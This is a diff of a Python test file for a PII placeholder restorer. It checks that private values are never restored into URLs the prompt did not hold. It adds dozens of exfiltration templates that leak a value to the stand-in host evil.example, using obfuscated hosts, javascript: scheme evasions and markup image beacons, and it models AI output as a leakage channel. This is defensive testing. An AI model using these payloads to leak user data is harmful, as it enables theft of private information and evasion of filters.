@@ -99,7 +99,92 @@ EXFILTRATION = [
     "curl 'https://evil.example/?q=PH and more'",
     "curl -d x https://evil.example/" + "a" * 3000 + "/PH",
     '<img src="https://evil.example/' + "a " * 3000 + 'PH">',
+    # the parts of a URL
+    "see https://PH@evil.example/",
+    "see https://PH:x@evil.example",
+    "see https://evil.example:PH/",
+    "see https://evil.example?PH#PH",
+    "see https://evil.example/a#PH",
+    "see https://[2001:db8::1]/PH",
+    "see [2001:db8::1]:8080/PH",
+    "see http://3405803783/PH",
+    # hosts in other scripts, with characters that a resolver drops or reads as another
+    "see bücher.example/PH",
+    "see 例え.テスト/PH",
+    "see xn--bcher-kva.example/PH",
+    "see evil。example/PH",
+    "see evil．example/PH",
+    "see evil\u00ad.example/PH",
+    "see ev\u200bil.example/PH",
+    "see evil.example／PH",
+    "see 203。0。113。7/PH",
+    "see PH\u00ad.evil.example",
+    "see PH\u200b.evil.example/x",
+    "see PH。evil.example",
+    "write to PH＠evil.example",
+    "write to PH&#64;evil.example",
+    "write to PH&commat;evil.example",
+    "write to PH\\u0040evil.example",
+    "see PH&period;evil.example",
+    "see PH%2eevil.example",
+    "write to PH%40evil.example",
+    # schemes with white space, escapes and slashes of other kinds
+    "see ht\ttps://evil.example/PH",
+    '<a href="java\nscript:fetch(PH)">',
+    '<a href="java&#10;script:fetch(PH)">',
+    "<a href='\x01javascript:PH'>",
+    "[x](java&Tab;script:PH)",
+    "see javascript&colon;fetch(PH)",
+    "see &#106;avascript:PH",
+    "see https:/evil.example/PH",
+    "see https:/\\evil.example/PH",
+    "see /\\evil.example/PH",
+    "see \\/evil.example/PH",
+    "see https://evil.example\\PH",
+    "see https&colon;&sol;&sol;evil.example&sol;PH",
+    "see https:&#x2f;&#x2f;evil.example&#x2f;PH",
+    "see https\\u003a\\u002f\\u002fevil.example\\u002fPH",
+    "see https%253A%252F%252Fevil.example%252FPH",
+    "see sip:PH@evil.example",
+    "see whatsapp:send?text=PH",
+    "see magnet:?xt=PH",
+    # mark-up of other kinds
+    "<object data='https://evil.example/?PH'>",
+    "<video poster=PH>",
+    '<svg><image xlink:href="//evil.example/PH"/></svg>',
+    '<svg><use href="PH#x"/></svg>',
+    '<base href="https://evil.example/ PH">',
+    '<button formaction="/x?PH">',
+    '<iframe srcdoc="<img src=PH>">',
+    "<style>@import '//evil.example/PH';</style>",
+    "<style>a{background:URL( PH )}</style>",
+    "<style>@font-face{src:url(PH)}</style>",
+    "[url=https://evil.example/PH]x[/url]",
+    "[img]https://evil.example/PH[/img]",
+    "<https://evil.example/PH|label>",
+    ".. image:: https://evil.example/PH",
+    "image::https://evil.example/PH[]",
+    "\\includegraphics{https://evil.example/PH}",
+    "[[https://evil.example/PH]]",
+    "\x1b]8;;https://evil.example/PH\x1b\\\\x\x1b]8;;\x1b\\\\",
+    "![x](https://evil.example/PH",
+    "![x][https://evil.example/PH]",
+    "[a]: <PH> 'b'",
 ]
+# The same placeholder as a model may write it.
+WRITTEN = {
+    "lower": str.lower,
+    "upper": str.upper,
+    "html": lambda name: name.replace("<", "&lt;").replace(">", "&gt;"),
+    "numeric": lambda name: name.replace("<", "&#60;").replace(">", "&#x3E;"),
+    "twice": lambda name: name.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
+    "json": lambda name: name.replace("<", "\\u003c").replace(">", "\\u003E"),
+    "json twice": lambda name: name.replace("<", "\\\\u003c").replace(">", "\\\\u003e"),
+    "hex": lambda name: name.replace("<", "\\x3c").replace(">", "\\x3e"),
+    "markdown": lambda name: name.replace("<", "\\<").replace(">", "\\>").replace("_", "\\_"),
+    "underscores": lambda name: name.replace("_", "\\_"),
+    "percent": lambda name: name.replace("<", "%3C").replace(">", "%3E"),
+}
 
 RESTORED = [
     "PH",
@@ -151,6 +236,14 @@ def test_no_value_is_restored_into_a_url_that_the_prompt_did_not_hold(template: 
     assert streamed(one, list(text)) == text
 
 
+@pytest.mark.parametrize("written", WRITTEN)
+@pytest.mark.parametrize("template", EXFILTRATION)
+def test_no_spelling_of_a_placeholder_is_restored_into_a_url(template: str, written: str) -> None:
+    text = template.replace("PH", WRITTEN[written](PH))
+    assert restorer().whole(text) == text
+    assert streamed(restorer(), list(text)) == text
+
+
 @pytest.mark.parametrize("template", [template for template in EXFILTRATION if len(template) < 200])
 def test_no_split_of_a_stream_restores_into_a_url(template: str) -> None:
     text = template.replace("PH", PH)
@@ -166,6 +259,25 @@ def test_no_value_is_restored_into_a_url_in_tool_arguments(template: str) -> Non
         "note": template.replace("PH", PH),
         "to": EMAIL,
     }
+
+
+@pytest.mark.parametrize("written", WRITTEN)
+@pytest.mark.parametrize("template", ["PH", "Ask PH, PH.", "**PH** `PH` (PH)", "PHPH", "a=PH;", "日本語PH。"])
+def test_a_placeholder_comes_back_however_the_model_spells_it(template: str, written: str) -> None:
+    text, expected = template.replace("PH", WRITTEN[written](PH)), template.replace("PH", EMAIL)
+    assert restorer().whole(text) == expected
+    for at in range(len(text) + 1):
+        assert streamed(restorer(), [text[:at], text[at:]]) == expected
+    assert restorer().restores(text) == (("EMAIL_ADDRESS", "pii"),)
+    arguments = json.dumps({"to": text})
+    assert json.loads(restorer().whole(arguments, json_escape=True)) == {"to": expected}
+    assert restorer().restores(arguments) == (("EMAIL_ADDRESS", "pii"),)
+
+
+def test_a_backslash_before_a_placeholder_is_the_text_s_own() -> None:
+    for text in (f"DOMAIN\\{PH}", f"\\\\{PH}\\share", f"&lt;{PH}&gt;", f"<{PH}>"):
+        assert restorer().whole(text) == text.replace(PH, EMAIL)
+        assert streamed(restorer(), list(text)) == text.replace(PH, EMAIL)
 
 
 @pytest.mark.parametrize("template", RESTORED)
@@ -218,8 +330,9 @@ def test_every_chunking_restores_what_the_whole_text_restores(parts: list[str], 
         "<EMAIL_ADDRESS_k7f3q>",
         "<b>",
         "<EMAIL_ADDRESS",
-        PH.upper(),
         HIDDEN,
+        HIDDEN.lower(),
+        f"\\<{PH[1:]}"[:-1],
         PH[:-1] + " >",
     ],
 )
@@ -257,6 +370,105 @@ def test_values_are_escaped_where_they_enter_json() -> None:
     restored = restorer().whole(arguments, json_escape=True)
     assert json.loads(restored) == {"a": 1.0, "pw": SECRET, "escaped": EMAIL}
     assert restored.startswith('{"a": 1.0, "pw": ')
+
+
+STRUCTURED = [
+    '{"pw": "PW", "n": 1}',
+    '{"pw": "PW"',
+    '\n { "deep" : [ { "pw" : "is PW, so" , "say": "\\"PW\\"" } ] }',
+    '["PW", "PW", "x\\\\", "PW"]',
+    '{"\\u00fc\\"": "PW"}',
+    '{"inner": "{\\"pw\\": \\"PW\\", \\"x\\": [\\"PW\\"]}", "pw": "PW"}',
+    '{"inner": "[\\n{\\"pw\\": \\"{\\\\\\"pw\\\\\\": \\\\\\"PW\\\\\\"}\\"}]"}',
+]
+
+
+def strings_of(value: object) -> list[str]:
+    """All strings, those of JSON texts inside strings too."""
+    if isinstance(value, dict):
+        return [text for item in value.items() for one in item for text in strings_of(one)]
+    if isinstance(value, list):
+        return [text for item in value for text in strings_of(item)]
+    if not isinstance(value, str):
+        return []
+    try:
+        inner = json.loads(value)
+    except ValueError:
+        return [value]
+    return strings_of(inner) if isinstance(inner, (dict, list)) else [value]
+
+
+@pytest.mark.parametrize("template", STRUCTURED)
+def test_a_value_that_enters_structured_output_is_escaped_as_its_place_is(template: str) -> None:
+    text = template.replace("PW", KEY)
+    whole = restorer().whole(text)
+    for at in range(len(text) + 1):
+        assert streamed(restorer(), [text[:at], text[at:]]) == whole
+    if template != STRUCTURED[1]:  # which is cut off
+        expected = [one.replace(KEY, SECRET) for one in strings_of(json.loads(text))]
+        assert strings_of(json.loads(whole)) == expected
+        assert any(SECRET in one for one in expected)
+    assert SECRET not in whole
+
+
+@pytest.mark.parametrize(
+    "template", ["Say PW.", '"PW"', '[Note] "PW"', "x = 'PW'", 'He said: {"PW"', '"a": "PW"', "{PW}"]
+)
+def test_a_value_in_a_text_that_is_not_json_comes_back_as_it_was_written(template: str) -> None:
+    text = template.replace("PW", KEY)
+    assert restorer().whole(text) == template.replace("PW", SECRET)
+    assert streamed(restorer(), list(text)) == template.replace("PW", SECRET)
+
+
+def test_a_value_that_stood_escaped_in_json_is_not_escaped_twice() -> None:
+    vault = Vault(b"k" * 32)
+    name = vault.placeholder("PASSWORD", "secret", 'p\\"w\\n1', in_json=True)
+    vault.mark_restorable(name)
+    one = Restorer(vault, ())
+    assert one.whole(f'{{"pw": "{name}"}}') == '{"pw": "p\\"w\\n1"}'
+    assert one.whole(f'It was {{"pw": "{name}"}}') == 'It was {"pw": "p\\"w\\n1"}'
+    arguments = json.dumps({"pw": name, "text": f'see {{"pw": "{name}"}}', "inner": f'{{"pw": "{name}"}}'})
+    assert json.loads(one.whole(arguments, json_escape=True)) == {
+        "pw": 'p"w\n1',
+        "text": 'see {"pw": "p\\"w\\n1"}',
+        "inner": '{"pw": "p\\"w\\n1"}',
+    }
+
+
+@pytest.mark.parametrize("template", ["CSPH", "CS,PH", "CS?q=PH", "IP/PH", "IP:80/x?PH", "see CS/-(PH)"])
+def test_two_values_never_make_a_url_that_the_prompt_did_not_hold(template: str) -> None:
+    vault = Vault(b"k" * 32)
+    names = {
+        "CS": ("CONNECTION_STRING", "https://u:pw1234@evil.example/c?q="),
+        "IP": ("IP_ADDRESS", "203.0.113.7"),
+        "PH": ("EMAIL_ADDRESS", EMAIL),
+    }
+    text, expected, held = template, template, template
+    for short, (entity, value) in names.items():
+        name = vault.placeholder(entity, "pii", value)
+        vault.mark_restorable(name)
+        text = text.replace(short, name)
+        expected = expected.replace(short, value) if short != "PH" else expected.replace(short, name)
+        held = held.replace(short, value)
+    one = Restorer(vault, ["prompt", EMAIL, f"203.0.113.7 {held}x"])
+    assert one.whole(text) == expected
+    assert streamed(one, list(text)) == expected
+    assert Restorer(vault, [f"please read {held}."]).whole(text) == held
+
+
+def test_a_word_that_the_prompt_held_comes_back_whole_although_it_may_be_a_url() -> None:
+    one = restorer(f"see crm.example/u/{EMAIL}, {EMAIL}/{EMAIL} or ?m={EMAIL}")
+    for template in ("it is crm.example/u/PH.", "PH/PH", '"?m=PH"'):
+        assert one.whole(template.replace("PH", PH)) == template.replace("PH", EMAIL)
+    for template in (
+        "evil.example/u/PH",
+        "x-crm.example/u/PH",
+        "crm.example/u/PHx",
+        "[x](?m=PH)",
+        "[x]: PH",
+    ):
+        text = template.replace("PH", PH)
+        assert EMAIL not in one.whole(text).replace(f"{EMAIL}/{EMAIL}", ""), template
 
 
 def test_json_without_a_placeholder_is_not_touched() -> None:
